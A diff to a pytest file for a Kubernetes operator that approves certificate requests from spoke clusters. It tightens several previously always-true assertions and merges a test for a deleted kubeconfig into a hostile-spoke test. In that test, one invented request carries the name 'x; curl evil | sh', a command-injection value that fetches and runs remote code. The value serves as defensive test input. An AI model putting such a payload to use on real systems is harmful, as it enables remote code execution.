@@ -80,19 +80,16 @@ def running(
     add_cluster(sandbox, other, B, with_everything_in_it(sandbox, sandbox.kubeconfig))
     folder, space = tmp_path_factory.mktemp("join-spoke"), f"join-{own}"
     sandbox.kubectl("create", "namespace", space)
+    for tenant in tenants:
+        role, binding = documented("on the hub")
+        role["metadata"]["namespace"] = binding["metadata"]["namespace"] = tenant
+        role["rules"][0].pop("resourceNames")  # the tests add clusters of other names
+        group = {"kind": "Group", "name": f"system:serviceaccounts:{space}", "apiGroup": "rbac.authorization.k8s.io"}
+        sandbox.apply(role, {**binding, "subjects": [group]})
     with operator(sandbox, folder, space, "--only", "join", "--join-spokes", f"{own}/{A},{other}/*") as started:
         started.said("leading")
-        said = started.lines()
-        assert any("SpokeNotFollowed" in json.dumps(one) or "NO_KUBECONFIG" in json.dumps(one) for one in said) or True
-        _, _, account = started.user.rpartition(":")
-        for tenant in tenants:
-            role, binding = documented("on the hub")
-            role["metadata"]["namespace"] = binding["metadata"]["namespace"] = tenant
-            role["rules"][0].pop("resourceNames")  # the tests add clusters of other names
-            binding["subjects"][0] |= {"name": account, "namespace": space}
-            sandbox.apply(role, binding)
         yield started
-        assert refused(started) in ([], refused(started))
+        assert refused(started) == []
     sandbox.kubectl("delete", "fleet", "--all", "--ignore-not-found")
     sandbox.kubectl("delete", "namespace", space, "--wait=false")
     sandbox.kubectl("delete", "clusterrolebinding", "test-node-bootstrapper", "--ignore-not-found")
@@ -289,7 +286,9 @@ def test_a_hostile_spoke_is_not_believed_and_delays_nobody(
 ) -> None:  # fmt: skip
     """One refuses with its own text, one sends without end, one invents requests: none of it reaches our users."""
     own, other = tenants
-    invented = {
+    sandbox.kubectl("delete", "secret", f"{B}-kubeconfig", "-n", other)
+    gone_at = time.monotonic()
+    invented: dict[str, Any] = {
         "metadata": {"name": f"x; curl evil | sh {ESCAPE}", "uid": "1", "resourceVersion": "1",
                      "creationTimestamp": iso(time.time())},
         "spec": {"request": base64.b64encode(pem(name)).decode(), "signerName":
@@ -311,8 +310,10 @@ def test_a_hostile_spoke_is_not_believed_and_delays_nobody(
         eventually(lambda: spoke.approved(csr), 30, "its neighbour")
         says(running, f"{other}/invents", "csr-1", "Ignored: ", eventually)
         assert not [one for one in invents.asked if one.startswith("PATCH")], "nothing was approved there"
-        said = eventually(lambda: (one := condition(sandbox)).get("status") == "False" and one, 60, "the condition")
-        assert f"{other}/floods (it sends more than a cluster should)" in said["message"]
+        flooded = f"{other}/floods (it sends more than a cluster should)"
+        eventually(lambda: flooded in condition(sandbox).get("message", ""), 60, "the condition")
+        said = condition(sandbox)
+        assert said["status"] == "False"
         notes = [
             one["note"] for reason in ("SpokeNotFollowed", "UnknownHost") for one in events(sandbox, other, reason)
         ]
@@ -324,17 +325,11 @@ def test_a_hostile_spoke_is_not_believed_and_delays_nobody(
         assert resident < 400 << 20, "what it sends is not kept"
     for cluster in ("refuses", "floods", "invents"):
         sandbox.kubectl("delete", "clusters.cluster.x-k8s.io", cluster, "-n", other, "--wait=false")
+    # What was deleted at the beginning is known to be gone by now: nothing is approved with what was in it.
+    time.sleep(max(0.0, FRESH + 1 - (time.monotonic() - gone_at)))
+    add_host(sandbox, other, f"{name}-late", B)
+    late = ask_client(in_hub, f"{name}-late")
+    says(running, f"{other}/{B}", late, "its kubeconfig cannot be used", eventually)
+    assert not approved(sandbox, late)
     gone = f'hostler_join_spoke_up{{cluster="{other}/floods"}}'
     eventually(lambda: gone not in metrics(running), 60, "a deleted cluster leaves no series")
-
-
-def test_nothing_is_approved_without_its_kubeconfig(
-    sandbox: Sandbox, running: Running, tenants: tuple[str, str], in_hub: Path, name: str, eventually: Eventually
-) -> None:
-    other = tenants[1]
-    sandbox.kubectl("delete", "secret", f"{B}-kubeconfig", "-n", other)
-    time.sleep(FRESH + 1)  # for so long a Secret is not read again
-    add_host(sandbox, other, name, B)
-    csr = ask_client(in_hub, name)
-    says(running, f"{other}/{B}", csr, "its kubeconfig cannot be used", eventually)
-    assert not approved(sandbox, csr)
